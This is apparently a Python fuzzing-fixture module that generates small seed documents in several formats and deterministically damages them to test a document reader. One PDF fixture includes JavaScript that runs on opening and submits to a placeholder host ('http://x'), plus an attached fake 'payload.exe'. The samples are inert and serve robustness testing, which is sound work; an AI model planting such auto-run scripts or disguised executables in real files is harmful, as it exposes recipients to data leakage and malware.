"""Small documents of every kind, and damage done to them as disks, networks and attackers do it."""

import io
import random
import re
from collections.abc import Callable, Iterator

import pikepdf
from PIL import Image, ImageDraw

NUMBER = re.compile(rb"\d+")
HUGE = [b"0", b"-1", b"1", b"65535", b"2147483647", b"4294967295", b"99999999999999999999", b"1e309"]


def seeds() -> dict[str, bytes]:
    """One tiny document of each kind the program reads, by file suffix (and a variant)."""
    page = Image.new("RGB", (360, 200), "white")
    pen = ImageDraw.Draw(page)
    pen.text((20, 30), "SO NOI VU\nSo: 12/QD-SNV\nngay 04 thang 02 nam 2025", fill="black", font_size=22)
    made = {
        "colour.jpg": _saved(page, "JPEG", dpi=(150, 150)),
        "grey.png": _saved(page.convert("L"), "PNG", dpi=(150, 150)),
        "fax.tif": _saved(page.convert("1"), "TIFF", compression="group4", dpi=(150, 150)),
        "two.tif": _saved(
            page, "TIFF", save_all=True, append_images=[page.convert("L")], compression="tiff_lzw"
        ),
        "text.txt": "SỞ NỘI VỤ\nSố: 12/QĐ-SNV\nHà Nội, ngày 04 tháng 02 năm 2025\n".encode(),
    }
    made["scan.pdf"] = _saved(page, "PDF", resolution=150)
    made["layer.pdf"] = _text_pdf()
    return made


def mutants(sources: dict[str, bytes], amount: int, seed: int = 1) -> Iterator[tuple[str, bytes]]:
    """`amount` damaged copies of `sources`, as (file name, bytes); the same for the same seed."""
    chance = random.Random(seed)
    names = sorted(sources)
    for index in range(amount):
        name = names[index % len(names)]
        data = sources[name]
        for _ in range(chance.randint(1, 3)):
            data = chance.choice(DAMAGES)(data, chance) or b"%"
        if chance.random() < 0.05:
            data = data[: len(data) // 2] + sources[chance.choice(names)]
        yield f"{index:05d}_{name}", data


def _flip_bits(data: bytes, chance: random.Random) -> bytes:
    changed = bytearray(data)
    for _ in range(chance.randint(1, 30)):
        changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def _overwrite(data: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data))
    return data[:start] + chance.randbytes(chance.randint(1, 200)) + data[start + 100 :]


def _cut(data: bytes, chance: random.Random) -> bytes:
    return data[: chance.randrange(1, len(data) + 1)]


def _drop(data: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data))
    return data[:start] + data[start + chance.randint(1, 300) :]


def _repeat(data: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data))
    block = data[start : start + chance.randint(1, 400)]
    return data[:start] + block * chance.randint(2, 40) + data[start:]


def _change_number(data: bytes, chance: random.Random) -> bytes:
    """Sizes, offsets and counts written as text, as PDF has them."""
    places = list(NUMBER.finditer(data))
    if not places:
        return _flip_bits(data, chance)
    place = chance.choice(places)
    return data[: place.start()] + chance.choice(HUGE) + data[place.end() :]


def _zeros(data: bytes, chance: random.Random) -> bytes:
    """A hole, as a broken download or a full disk leaves it."""
    start = chance.randrange(len(data))
    return data[:start] + bytes(min(512, len(data) - start)) + data[start + 512 :]


DAMAGES: tuple[Callable[[bytes, random.Random], bytes], ...] = (
    _flip_bits,
    _overwrite,
    _cut,
    _drop,
    _repeat,
    _change_number,
    _change_number,
    _zeros,
)


def _saved(image: Image.Image, kind: str, **options: object) -> bytes:
    memory = io.BytesIO()
    image.save(memory, kind, **options)  # type: ignore[arg-type]
    return memory.getvalue()


def _text_pdf() -> bytes:
    """A page with a text layer, JavaScript that runs on opening, and an attachment."""
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page(page_size=(300, 200))
        font = pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=pdf.make_indirect(font)))
        text = b"BT /F1 14 Tf 20 150 Td (SO NOI VU) Tj 0 -30 Td (So: 12/QD-SNV) Tj ET"
        page.Contents = pdf.make_stream(text)
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('hello'); this.submitForm('http://x')")
        )
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(100))
        memory = io.BytesIO()
        pdf.save(memory)
    return memory.getvalue()
